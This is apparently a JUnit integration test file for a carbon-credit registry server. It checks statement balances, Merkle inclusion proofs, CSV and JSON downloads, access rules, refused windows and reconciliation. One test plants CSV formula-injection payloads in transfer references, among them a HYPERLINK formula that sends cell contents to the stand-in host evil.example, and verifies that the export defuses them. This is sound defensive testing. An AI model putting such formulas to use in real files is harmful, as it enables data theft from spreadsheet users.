package org.carbonledger.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.carbonledger.ledger.Checkpoint;
import org.carbonledger.ledger.Hashes;
import org.carbonledger.ledger.Hex;
import org.carbonledger.registry.Ids;
import org.carbonledger.ledger.InclusionReceipt;
import org.carbonledger.ledger.NoteVerifier;
import org.carbonledger.ledger.ProofVerifier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * AccountStatementTest checks account statements and reconciliation against a whole server over HTTP: an
 * issuance, referenced and unreferenced transfers, a multi-range transfer, a retirement and a cancellation
 * give one account a history; then tables of windows check that balances add up, that every movement is
 * proven in the statement's checkpoint, that the CSV and JSON downloads say what GraphQL says, who may read a
 * statement, which windows are refused with which code, and one reconciliation row per outcome.
 */
class AccountStatementTest {

  private static final String STATEMENT_FIELDS = """
      accountId window { fromSeq toSeq fromTime toTime } openingBalance closingBalance
      checkpoint { treeSize rootHash signedNote signedAt }
      movements { seq time kind counterpartAccountId quantity serialRanges { start end } reference leafHash inclusionProof tlogProof }""";
  private static final String STATEMENT = "query($a: ID!, $w: StatementWindowInput!) { accountStatement(accountId: $a, window: $w) { "
      + STATEMENT_FIELDS + " } }";

  private static TestServer server;
  private static String issuanceAccount;
  private static String alice;
  private static String bob;
  private static String carol;
  private static String aliceKey;
  private static String bobKey;
  private static String auditorKey;
  /** The seq of each of alice's movements, by a name for it. */
  private static final Map<String, Long> SEQS = new LinkedHashMap<>();
  private static long firstSerial;
  private static String projectId;

  @BeforeAll
  static void setUp() throws Exception {
    server = TestServer.start();
    issuanceAccount = openAccount("J-Credit secretariat", "JCREDIT issuance", "ISSUANCE", "JCREDIT");
    alice = openAccount("Alice Exchange", "Alice", "HOLDING", null);
    bob = openAccount("Bob Airways", "Bob", "HOLDING", null);
    carol = openAccount("Carol Steel", "Carol", "HOLDING", null);
    aliceKey = holderKey(alice);
    bobKey = holderKey(bob);
    auditorKey = server.data("mutation { createApiKey(input: {role: AUDITOR, name: \"auditor\"}) { token } }", null)
        .getJsonObject("createApiKey").getString("token");
    projectId = mutation(server.adminToken, "registerProject", "project { projectId }", new JsonObject()
        .put("program", "JCREDIT").put("programProjectId", "JCL-9").put("name", "Forest").put("hostCountry", "JP")
        .put("methodology", "FO-001").put("category", "FORESTRY").put("mitigationType", "REMOVAL")
        .put("creditingPeriod", new JsonObject().put("start", "2020-01-01").put("end", "2030-12-31"))
        .put("activityStart", "2020-01-01").put("tseMarketClass", "FOREST")).getJsonObject("project").getString("projectId");
    firstSerial = mutation(server.adminToken, "issueUnits", "issuance { serialStart }", new JsonObject().put("projectId", projectId)
        .put("vintage", 2022).put("quantity", 1000).put("unitType", "JCU")
        .put("monitoringPeriod", new JsonObject().put("start", "2022-01-01").put("end", "2022-12-31")))
        .getJsonObject("issuance").getLong("serialStart");
    SEQS.put("FUND-1", transfer(server.adminToken, issuanceAccount, alice, quantity(1000), "FUND-1"));
    SEQS.put("T-1", transfer(aliceKey, alice, bob, quantity(100), "T-1"));
    SEQS.put("T-2", transfer(bobKey, bob, alice, quantity(30), "T-2"));
    SEQS.put("T-3", transfer(aliceKey, alice, bob, quantity(50), "T-3"));
    SEQS.put("T-4", transfer(aliceKey, alice, carol, new JsonObject().put("serialRanges", new JsonArray()
        .add(new JsonObject().put("start", firstSerial + 500).put("end", firstSerial + 509))
        .add(new JsonObject().put("start", firstSerial + 600).put("end", firstSerial + 609))), "T-4"));
    SEQS.put("RETIRE", mutation(aliceKey, "retireUnits", "", new JsonObject().put("accountId", alice).put("units", quantity(20))
        .put("purpose", "VOLUNTARY_OFFSET").put("beneficiaryName", "Alice Exchange").put("reportingYear", 2024)).getLong("seq"));
    SEQS.put("CANCEL", mutation(aliceKey, "cancelUnits", "", new JsonObject().put("accountId", alice).put("units", quantity(5))
        .put("reason", "OTHER")).getLong("seq"));
    SEQS.put("UNREFERENCED", transfer(aliceKey, alice, bob, quantity(7), null));
    // An entry after alice's last, so a window can end before the log does.
    transfer(bobKey, bob, carol, quantity(1), "B-1");
  }

  @AfterAll
  static void tearDown() {
    server.close();
  }

  /** An ACCOUNT_HOLDER key for the holder of {@code account}, as RegistryApiTest makes one. */
  private static String holderKey(String account) throws Exception {
    String holderId = server.data("query($a: ID!) { account(accountId: $a) { holder { holderId } } }", new JsonObject().put("a", account))
        .getJsonObject("account").getJsonObject("holder").getString("holderId");
    return server.data("mutation($i: CreateApiKeyInput!) { createApiKey(input: $i) { token } }", new JsonObject().put("i",
        new JsonObject().put("role", "ACCOUNT_HOLDER").put("holderId", holderId).put("name", "holder " + holderId)))
        .getJsonObject("createApiKey").getString("token");
  }

  private static JsonObject quantity(long units) {
    return new JsonObject().put("quantity", units);
  }

  private static String openAccount(String holder, String name, String type, String program) throws Exception {
    return mutation(server.adminToken, "openAccount", "account { accountId }", new JsonObject().put("holderName", holder)
        .put("holderCountry", "JP").put("name", name).put("type", type).put("program", program))
        .getJsonObject("account").getString("accountId");
  }

  private static long transfer(String token, String from, String to, JsonObject units, String reference) throws Exception {
    return mutation(token, "transferUnits", "", new JsonObject().put("fromAccountId", from).put("toAccountId", to)
        .put("units", units).put("reference", reference)).getLong("seq");
  }

  /** Sends a mutation with key {@code token}; its payload MUST have no user errors. */
  private static JsonObject mutation(String token, String field, String selection, JsonObject input) throws Exception {
    String inputType = Character.toUpperCase(field.charAt(0)) + field.substring(1) + "Input";
    JsonObject response = new JsonObject(server.post(token, "mutation($input: " + inputType + "!) { " + field
        + "(input: $input) { seq userErrors { code message } " + selection + " } }", new JsonObject().put("input", input)).body());
    JsonObject payload = response.getJsonObject("data").getJsonObject(field);
    assertTrue(payload.getJsonArray("userErrors").isEmpty(), field + ": " + response.encode());
    return payload;
  }

  private static JsonObject statement(String account, JsonObject window) throws Exception {
    return server.data(STATEMENT, new JsonObject().put("a", account).put("w", window)).getJsonObject("accountStatement");
  }

  private static long logSize() throws Exception {
    return server.data("{ log { size } }", null).getJsonObject("log").getLong("size");
  }

  private static JsonObject seqs(Long from, Long to) {
    return new JsonObject().put("fromSeq", from).put("toSeq", to);
  }

  // ---- balances ----

  @Test
  void openingPlusMovementsIsClosingForEveryWindow() throws Exception {
    long size = logSize();
    long t1 = SEQS.get("T-1");
    Map<String, JsonObject> windows = new LinkedHashMap<>();
    windows.put("the whole log", new JsonObject());
    windows.put("the first entry only", seqs(0L, 0L));
    windows.put("empty, at the start", seqs(0L, -1L));
    windows.put("before any of alice's movements", seqs(0L, SEQS.get("FUND-1") - 1));
    windows.put("one movement", seqs(t1, t1));
    windows.put("empty, in the middle", seqs(t1, t1 - 1));
    windows.put("from the middle to the end", seqs(t1, null));
    windows.put("up to the last entry", seqs(null, size - 1));
    windows.put("the last entry only (not alice's)", seqs(size - 1, size - 1));
    windows.put("empty, at the end", seqs(size, null));
    windows.put("by times: T-1 up to T-3", new JsonObject().put("fromTime", time(t1)).put("toTime", time(SEQS.get("T-3"))));
    windows.put("by times: from T-3 on", new JsonObject().put("fromTime", time(SEQS.get("T-3"))));
    windows.put("by times: all before 2000", new JsonObject().put("toTime", "2000-01-01T00:00:00Z"));
    long balance = server.data("query($a: ID!) { account(accountId: $a) { balance } }", new JsonObject().put("a", alice))
        .getJsonObject("account").getLong("balance");
    for (Map.Entry<String, JsonObject> row : windows.entrySet()) {
      JsonObject statement = statement(alice, row.getValue());
      JsonObject window = statement.getJsonObject("window");
      long from = window.getLong("fromSeq");
      long to = window.getLong("toSeq");
      long sum = 0;
      for (Object item : statement.getJsonArray("movements")) {
        JsonObject movement = (JsonObject) item;
        long seq = movement.getLong("seq");
        assertTrue(seq >= from && seq <= to, row.getKey() + ": movement " + seq + " outside " + from + ".." + to);
        sum += movement.getLong("quantity");
      }
      assertEquals(statement.getLong("closingBalance"), statement.getLong("openingBalance") + sum, row.getKey());
      assertTrue(to >= from - 1 && to < size, row.getKey() + ": window " + from + ".." + to);
      // The opening balance is the closing balance of everything before the window.
      long before = from == 0 ? 0 : statement(alice, seqs(0L, from - 1)).getLong("closingBalance");
      assertEquals(before, statement.getLong("openingBalance"), row.getKey() + ": opening");
      if (to == size - 1) {
        assertEquals(balance, statement.getLong("closingBalance"), row.getKey() + ": closing is the account's balance");
      }
    }
    assertEquals(0, statement(alice, seqs(0L, -1L)).getLong("closingBalance"));
    assertEquals(seqs(t1, SEQS.get("T-3") - 1).getValue("toSeq"),
        statement(alice, windows.get("by times: T-1 up to T-3")).getJsonObject("window").getLong("toSeq"), "toTime is exclusive");
    assertEquals(t1, statement(alice, windows.get("by times: T-1 up to T-3")).getJsonObject("window").getLong("fromSeq"),
        "fromTime is inclusive");
    // A bound a tenth of a microsecond after T-1 (entry times are whole microseconds) is after T-1, either way round.
    String justAfterT1 = time(t1).replace("Z", "1Z");
    assertTrue(statement(alice, new JsonObject().put("fromTime", justAfterT1)).getJsonObject("window").getLong("fromSeq") > t1,
        "from " + justAfterT1 + " leaves T-1 out");
    JsonObject toJustAfterT1 = statement(alice, new JsonObject().put("toTime", justAfterT1)).getJsonObject("window");
    assertTrue(toJustAfterT1.getLong("toSeq") >= t1, "to " + justAfterT1 + " takes T-1 in");
    // The window echoed is the one used: asking for it again gives the same statement.
    assertEquals(toJustAfterT1, statement(alice, new JsonObject().put("toTime", toJustAfterT1.getString("toTime")))
        .getJsonObject("window"), "the echoed window selects what it did");
    assertEquals(0, statement(alice, windows.get("by times: all before 2000")).getJsonArray("movements").size());
  }

  private static String time(long seq) throws Exception {
    return server.data("query($s: Long!) { entry(seq: $s) { time } }", new JsonObject().put("s", seq)).getJsonObject("entry").getString("time");
  }

  @Test
  void eachEntryIsOneMovementWithItsKindCounterpartAndReference() throws Exception {
    JsonArray movements = statement(alice, new JsonObject()).getJsonArray("movements");
    record Row(String name, String kind, String counterpart, long quantity, String reference, int ranges) {}
    List<Row> expected = List.of(
        new Row("FUND-1", "TRANSFERRED_IN", issuanceAccount, 1000, "FUND-1", 1),
        new Row("T-1", "TRANSFERRED_OUT", bob, -100, "T-1", 1),
        new Row("T-2", "TRANSFERRED_IN", bob, 30, "T-2", 1),
        // T-2 came back as a block of its own, so T-3 takes it and part of the next one: one entry, two ranges.
        new Row("T-3", "TRANSFERRED_OUT", bob, -50, "T-3", 2),
        new Row("T-4", "TRANSFERRED_OUT", carol, -20, "T-4", 2),
        new Row("RETIRE", "RETIRED", null, -20, null, 1),
        new Row("CANCEL", "CANCELLED", null, -5, null, 1),
        new Row("UNREFERENCED", "TRANSFERRED_OUT", bob, -7, null, 1));
    assertEquals(expected.size(), movements.size(), movements.encodePrettily());
    for (int i = 0; i < expected.size(); i++) {
      Row row = expected.get(i);
      JsonObject movement = movements.getJsonObject(i);
      assertEquals(SEQS.get(row.name()), movement.getLong("seq"), row.name());
      assertEquals(row.kind(), movement.getString("kind"), row.name());
      assertEquals(row.counterpart(), movement.getString("counterpartAccountId"), row.name());
      assertEquals(row.quantity(), movement.getLong("quantity"), row.name());
      assertEquals(row.reference(), movement.getString("reference"), row.name());
      assertEquals(row.ranges(), movement.getJsonArray("serialRanges").size(), row.name());
    }
    JsonArray ranges = movements.getJsonObject(4).getJsonArray("serialRanges");
    assertEquals(firstSerial + 500, ranges.getJsonObject(0).getLong("start"));
    assertEquals(firstSerial + 609, ranges.getJsonObject(1).getLong("end"));
    JsonArray issued = statement(issuanceAccount, new JsonObject()).getJsonArray("movements");
    assertEquals("ISSUED", issued.getJsonObject(0).getString("kind"));
    assertEquals(1000, issued.getJsonObject(0).getLong("quantity"));
  }

  // ---- proof ----

  @Test
  void theCheckpointVerifiesAndProvesEveryMovement() throws Exception {
    NoteVerifier key = NoteVerifier.parse(server.server.ledger().verifierKey());
    String origin = server.server.ledger().origin();
    List<JsonObject> windows = List.of(new JsonObject(), seqs(0L, SEQS.get("T-2")), seqs(SEQS.get("T-3"), SEQS.get("CANCEL")),
        seqs(0L, -1L), seqs(logSize(), null));
    for (JsonObject asked : windows) {
      JsonObject statement = statement(alice, asked);
      JsonObject checkpointFields = statement.getJsonObject("checkpoint");
      Checkpoint checkpoint = Checkpoint.open(checkpointFields.getString("signedNote"), key, origin);
      long toSeq = statement.getJsonObject("window").getLong("toSeq");
      assertEquals(checkpointFields.getLong("treeSize"), checkpoint.size());
      assertEquals(checkpointFields.getString("rootHash"), Hex.encode(checkpoint.rootHash()));
      assertTrue(checkpoint.size() > toSeq, asked.encode());
      if (toSeq >= 0) {
        // Every mutation here was its own batch with its own checkpoint, so the smallest covering one is toSeq + 1.
        assertEquals(toSeq + 1, checkpoint.size(), asked.encode());
      }
      for (Object item : statement.getJsonArray("movements")) {
        JsonObject movement = (JsonObject) item;
        long seq = movement.getLong("seq");
        byte[] body = server.data("query($s: Long!) { entry(seq: $s) { canonicalJson } }", new JsonObject().put("s", seq))
            .getJsonObject("entry").getString("canonicalJson").getBytes(StandardCharsets.UTF_8);
        assertEquals(Hex.encode(Hashes.leafHash(body)), movement.getString("leafHash"));
        List<byte[]> path = movement.getJsonArray("inclusionProof").stream().map(hash -> Hex.decode((String) hash)).toList();
        ProofVerifier.verifyInclusion(Hex.decode(movement.getString("leafHash")), seq, checkpoint.size(), path, checkpoint.rootHash());
        InclusionReceipt receipt = InclusionReceipt.parse(movement.getString("tlogProof"));
        assertEquals(checkpoint, receipt.verifyEntry(body, origin, key));
      }
    }
  }

  // ---- downloads ----

  @Test
  void theDownloadsSayWhatGraphQLSays() throws Exception {
    Map<String, JsonObject> windows = new LinkedHashMap<>();
    windows.put("", new JsonObject());
    windows.put("?fromSeq=" + SEQS.get("T-2") + "&toSeq=" + SEQS.get("CANCEL"), seqs(SEQS.get("T-2"), SEQS.get("CANCEL")));
    windows.put("?fromSeq=0&toSeq=-1", seqs(0L, -1L));
    String from = time(SEQS.get("T-1"));
    windows.put("?fromTime=" + URLEncoder.encode(from, StandardCharsets.UTF_8), new JsonObject().put("fromTime", from));
    for (Map.Entry<String, JsonObject> row : windows.entrySet()) {
      JsonObject graphql = statement(alice, row.getValue());
      HttpResponse<String> json = download(aliceKey, alice, "json", row.getKey());
      assertEquals(200, json.statusCode(), json.body());
      assertTrue(json.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
      assertEquals(graphql, new JsonObject(json.body()), row.getKey());
      HttpResponse<String> csv = download(aliceKey, alice, "csv", row.getKey());
      assertEquals(200, csv.statusCode(), csv.body());
      assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
      assertEquals(csvOf(graphql), Csv.parse(csv.body()), row.getKey());
    }
  }

  /**
   * A reference another holder wrote that a spreadsheet would run as a formula is text in the receiver's CSV (a
   * leading apostrophe), and exactly as sent in the JSON and in GraphQL.
   */
  @Test
  void aReferenceThatLooksLikeAFormulaIsTextInTheCsv() throws Exception {
    List<String> hostile = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Refund\")", "+1+1", "-2+3", "@SUM(1+1)");
    // Accounts of their own, so that the other tests' balances and windows stay as they expect.
    String sender = openAccount("Formula Sender", "Sender", "HOLDING", null);
    String receiver = openAccount("Formula Receiver", "Receiver", "HOLDING", null);
    mutation(server.adminToken, "issueUnits", "", new JsonObject().put("projectId", projectId).put("vintage", 2023)
        .put("quantity", 10).put("unitType", "JCU")
        .put("monitoringPeriod", new JsonObject().put("start", "2023-01-01").put("end", "2023-12-31")));
    transfer(server.adminToken, issuanceAccount, sender, quantity(10), "FUND-FORMULAS");
    String senderKey = holderKey(sender);
    String receiverKey = holderKey(receiver);
    long first = -1;
    for (String reference : hostile) {
      long seq = transfer(senderKey, sender, receiver, quantity(1), reference);
      first = first < 0 ? seq : first;
    }
    String window = "?fromSeq=" + first + "&toSeq=" + (first + hostile.size() - 1);
    List<List<String>> rows = Csv.parse(download(receiverKey, receiver, "csv", window).body());
    List<String> inCsv = rows.stream().filter(row -> row.get(0).equals("MOVEMENT")).map(row -> row.get(8)).toList();
    assertEquals(hostile.stream().map(reference -> "'" + reference).toList(), inCsv);
    JsonArray inJson = new JsonObject(download(receiverKey, receiver, "json", window).body()).getJsonArray("movements");
    assertEquals(hostile, inJson.stream().map(movement -> ((JsonObject) movement).getString("reference")).toList());
    assertEquals("T-1", StatementCsv.asText("T-1"), "an ordinary reference is left as it is");
  }

  /** The CSV rows a statement should download as, built from its GraphQL answer (docs/API.md gives the format). */
  private static List<List<String>> csvOf(JsonObject statement) {
    List<List<String>> rows = new ArrayList<>();
    rows.add(List.of(StatementCsv.HEADER.split(",")));
    JsonObject window = statement.getJsonObject("window");
    String account = statement.getString("accountId");
    rows.add(row("OPENING", account, window.getValue("fromSeq"), window.getValue("fromTime"), null, null,
        statement.getValue("openingBalance"), null, null, null, null, null));
    for (Object item : statement.getJsonArray("movements")) {
      JsonObject movement = (JsonObject) item;
      List<String> ranges = new ArrayList<>();
      movement.getJsonArray("serialRanges").forEach(range -> ranges.add(((JsonObject) range).getLong("start") + "-" + ((JsonObject) range).getLong("end")));
      List<String> proof = new ArrayList<>();
      movement.getJsonArray("inclusionProof").forEach(hash -> proof.add((String) hash));
      rows.add(row("MOVEMENT", account, movement.getValue("seq"), movement.getValue("time"), movement.getValue("kind"),
          movement.getValue("counterpartAccountId"), movement.getValue("quantity"), String.join(" ", ranges),
          StatementCsv.asText(movement.getString("reference")), movement.getValue("leafHash"), String.join(" ", proof), null));
    }
    rows.add(row("CLOSING", account, window.getValue("toSeq"), window.getValue("toTime"), null, null,
        statement.getValue("closingBalance"), null, null, null, null, null));
    JsonObject checkpoint = statement.getJsonObject("checkpoint");
    rows.add(row("CHECKPOINT", null, checkpoint.getValue("treeSize"), checkpoint.getValue("signedAt"), null, null, null, null,
        null, checkpoint.getValue("rootHash"), null, checkpoint.getValue("signedNote")));
    return rows;
  }

  private static List<String> row(Object... values) {
    List<String> row = new ArrayList<>();
    for (Object value : values) {
      row.add(value == null ? "" : value.toString());
    }
    return row;
  }

  private static HttpResponse<String> download(String token, String account, String format, String query) throws Exception {
    var request = server.request("/accounts/" + account + "/statement." + format + query).GET();
    if (token != null) {
      request.header("Authorization", "Bearer " + token);
    }
    return server.send(request);
  }

  // ---- access ----

  @Test
  void onlyTheOperatorsAndTheAccountsHolderReadItsStatement() throws Exception {
    record Row(String who, String token, String code, int status) {}
    List<Row> rows = List.of(
        new Row("registry admin", server.adminToken, null, 200),
        new Row("auditor", auditorKey, null, 200),
        new Row("alice's holder", aliceKey, null, 200),
        new Row("another holder", bobKey, "FORBIDDEN", 403),
        new Row("no key", null, "UNAUTHENTICATED", 401),
        new Row("a key that is not one", "clk_nope_nope", "UNAUTHENTICATED", 401));
    for (Row row : rows) {
      JsonObject response = new JsonObject(server.post(row.token(), STATEMENT, new JsonObject().put("a", alice)
          .put("w", new JsonObject())).body());
      String code = response.containsKey("errors")
          ? response.getJsonArray("errors").getJsonObject(0).getJsonObject("extensions").getString("code") : null;
      assertEquals(row.code(), code, row.who() + " over GraphQL: " + response.encode());
      for (String format : List.of("csv", "json")) {
        HttpResponse<String> download = download(row.token(), alice, format, "");
        assertEquals(row.status(), download.statusCode(), row.who() + " ." + format);
        if (row.code() != null) {
          assertEquals(row.code(), new JsonObject(download.body()).getJsonArray("errors").getJsonObject(0)
              .getJsonObject("extensions").getString("code"), row.who() + " ." + format);
        }
      }
    }
    String reconcile = "query($a: ID!) { reconcileAccount(accountId: $a, window: {}, expected: []) { balanced } }";
    assertEquals("FORBIDDEN", new JsonObject(server.post(bobKey, reconcile, new JsonObject().put("a", alice)).body())
        .getJsonArray("errors").getJsonObject(0).getJsonObject("extensions").getString("code"));
  }

  // ---- refusals ----

  @Test
  void windowsAndListsBeyondTheLimitsAreRefusedWithTheirCode() throws Exception {
    long size = logSize();
    record Row(String name, String account, JsonObject window, String code, int status, String query) {}
    List<Row> rows = List.of(
        new Row("toSeq beyond the signed log", alice, seqs(0L, size), "SEQ_NOT_IN_TREE", 400, "?toSeq=" + size),
        new Row("ends before it starts", alice, seqs(5L, 3L), "STATEMENT_WINDOW_ENDS_BEFORE_IT_STARTS", 400, "?fromSeq=5&toSeq=3"),
        new Row("times before they start", alice, new JsonObject().put("fromTime", "2030-01-01T00:00:00Z").put("toTime", "2029-01-01T00:00:00Z"),
            "STATEMENT_WINDOW_ENDS_BEFORE_IT_STARTS", 400, "?fromTime=2030-01-01T00:00:00Z&toTime=2029-01-01T00:00:00Z"),
        new Row("seqs and times", alice, new JsonObject().put("fromSeq", 1).put("toTime", "2029-01-01T00:00:00Z"),
            "STATEMENT_WINDOW_MIXES_SEQS_AND_TIMES", 400, "?fromSeq=1&toTime=2029-01-01T00:00:00Z"),
        new Row("negative seq", alice, seqs(-2L, null), "BAD_USER_INPUT", 400, "?fromSeq=-2"),
        new Row("no such account", Ids.format(Ids.Kind.ACCOUNT, 99_999_999),
            new JsonObject(), "NOT_FOUND", 404, ""),
        new Row("not an account id", "A123", new JsonObject(), "BAD_USER_INPUT", 400, ""));
    for (Row row : rows) {
      assertEquals(row.code(), server.errorCode(STATEMENT, new JsonObject().put("a", row.account()).put("w", row.window())), row.name());
      HttpResponse<String> download = download(server.adminToken, row.account(), "json", row.query());
      assertEquals(row.status(), download.statusCode(), row.name());
      assertEquals(row.code(), new JsonObject(download.body()).getJsonArray("errors").getJsonObject(0)
          .getJsonObject("extensions").getString("code"), row.name());
    }
    assertEquals(400, download(server.adminToken, alice, "csv", "?fromSeq=x").statusCode());
    // An offset's unescaped '+' arrives as a space: the answer says how to send it.
    HttpResponse<String> plus = download(server.adminToken, alice, "json", "?fromTime=2026-11-30T09:00:00+09:00");
    assertEquals(400, plus.statusCode(), plus.body());
    assertTrue(plus.body().contains("%2B"), plus.body());
    // Only ASCII digits: a plus sign or another script's digits (U+0663, Arabic-Indic three) are not a seq.
    for (String query : List.of("?fromSeq=%2B1", "?fromSeq=%D9%A3")) {
      assertEquals(400, download(server.adminToken, alice, "json", query).statusCode(), query);
    }
    // U+0000 in the path, with a key or without: the client's error, before any look-up (PostgreSQL refuses it).
    for (String token : new String[] {server.adminToken, null}) {
      HttpResponse<String> nul = download(token, alice + "%00", "json", "");
      assertEquals(400, nul.statusCode(), nul.body());
      assertEquals("BAD_USER_INPUT", new JsonObject(nul.body()).getJsonArray("errors").getJsonObject(0)
          .getJsonObject("extensions").getString("code"));
    }
    JsonArray tooMany = new JsonArray();
    for (int i = 0; i <= org.carbonledger.api.Statements.RECONCILIATION_EXPECTED_MAX; i++) {
      tooMany.add(new JsonObject().put("quantity", 1));
    }
    assertEquals("RECONCILIATION_TOO_MANY_EXPECTED", server.errorCode(
        "query($a: ID!, $e: [ExpectedMovementInput!]!) { reconcileAccount(accountId: $a, window: {}, expected: $e) { balanced } }",
        new JsonObject().put("a", alice).put("e", tooMany)));
  }

  // ---- reconciliation ----

  @Test
  void reconciliationSortsEveryExpectedAndRegistryMovement() throws Exception {
    record Row(String outcome, String reference, String counterpart, long quantity) {}
    List<Row> rows = List.of(
        new Row("matched", "T-1", bob, -100),
        new Row("missing", "T-99", bob, -5),
        new Row("mismatched QUANTITY", "T-3", bob, -40),
        new Row("mismatched COUNTERPART", "T-2", carol, 30),
        new Row("mismatched COUNTERPART,QUANTITY", "T-4", bob, -21),
        new Row("matched", null, null, -20),
        new Row("matched", null, bob, -7),
        new Row("missing", null, carol, 1));
    JsonArray expected = new JsonArray();
    rows.forEach(row -> expected.add(new JsonObject().put("reference", row.reference()).put("counterpartAccountId", row.counterpart())
        .put("quantity", row.quantity())));
    JsonObject answer = server.data("""
        query($a: ID!, $e: [ExpectedMovementInput!]!) { reconcileAccount(accountId: $a, window: {}, expected: $e) {
          balanced statement { openingBalance closingBalance movements { seq } }
          matched { expected { index } movement { seq } }
          mismatched { expected { index reference quantity } movement { seq quantity counterpartAccountId } differences }
          missingInRegistry { index reference counterpartAccountId quantity }
          unexpectedInRegistry { seq kind quantity } } }""", new JsonObject().put("a", alice).put("e", expected))
        .getJsonObject("reconcileAccount");
    Map<Integer, String> outcomes = new LinkedHashMap<>();
    answer.getJsonArray("matched").forEach(item -> outcomes.put(((JsonObject) item).getJsonObject("expected").getInteger("index"), "matched"));
    answer.getJsonArray("missingInRegistry").forEach(item -> outcomes.put(((JsonObject) item).getInteger("index"), "missing"));
    answer.getJsonArray("mismatched").forEach(item -> {
      JsonObject mismatch = (JsonObject) item;
      List<String> differences = new ArrayList<>();
      mismatch.getJsonArray("differences").forEach(difference -> differences.add((String) difference));
      outcomes.put(mismatch.getJsonObject("expected").getInteger("index"), "mismatched " + String.join(",", differences.stream().sorted().toList()));
    });
    for (int i = 0; i < rows.size(); i++) {
      assertEquals(rows.get(i).outcome(), outcomes.get(i), "expected item " + i + ": " + answer.encodePrettily());
    }
    Map<Integer, Long> matchedSeqs = new LinkedHashMap<>();
    answer.getJsonArray("matched").forEach(item -> matchedSeqs.put(((JsonObject) item).getJsonObject("expected").getInteger("index"),
        ((JsonObject) item).getJsonObject("movement").getLong("seq")));
    assertEquals(Map.of(0, SEQS.get("T-1"), 5, SEQS.get("RETIRE"), 6, SEQS.get("UNREFERENCED")), matchedSeqs);
    JsonObject quantityMismatch = answer.getJsonArray("mismatched").getJsonObject(0);
    assertEquals(-40, quantityMismatch.getJsonObject("expected").getLong("quantity"));
    assertEquals(-50, quantityMismatch.getJsonObject("movement").getLong("quantity"), "both sides are shown");
    List<Long> unexpected = new ArrayList<>();
    answer.getJsonArray("unexpectedInRegistry").forEach(item -> unexpected.add(((JsonObject) item).getLong("seq")));
    assertEquals(List.of(SEQS.get("FUND-1"), SEQS.get("CANCEL")), unexpected);
    assertEquals(false, answer.getBoolean("balanced"));
    JsonObject all = server.data("query($a: ID!, $w: StatementWindowInput!, $e: [ExpectedMovementInput!]!) { "
        + "reconcileAccount(accountId: $a, window: $w, expected: $e) { balanced } }", new JsonObject().put("a", alice)
        .put("w", seqs(SEQS.get("T-1"), SEQS.get("T-1"))).put("e", new JsonArray().add(new JsonObject().put("reference", "T-1")
            .put("counterpartAccountId", bob).put("quantity", -100))));
    assertEquals(true, all.getJsonObject("reconcileAccount").getBoolean("balanced"));
  }

  /** Csv parses RFC 4180 text: quoted fields may hold commas, doubled quotes and line breaks. */
  static final class Csv {
    static List<List<String>> parse(String text) {
      List<List<String>> rows = new ArrayList<>();
      List<String> row = new ArrayList<>();
      StringBuilder field = new StringBuilder();
      boolean quoted = false;
      for (int i = 0; i < text.length(); i++) {
        char c = text.charAt(i);
        if (quoted) {
          if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
            field.append('"');
            i++;
          } else if (c == '"') {
            quoted = false;
          } else {
            field.append(c);
          }
        } else if (c == '"') {
          quoted = true;
        } else if (c == ',') {
          row.add(field.toString());
          field.setLength(0);
        } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
          row.add(field.toString());
          field.setLength(0);
          rows.add(row);
          row = new ArrayList<>();
          i++;
        } else {
          field.append(c);
        }
      }
      assertTrue(row.isEmpty() && field.length() == 0, "the CSV ends with CRLF");
      return rows;
    }
  }
}
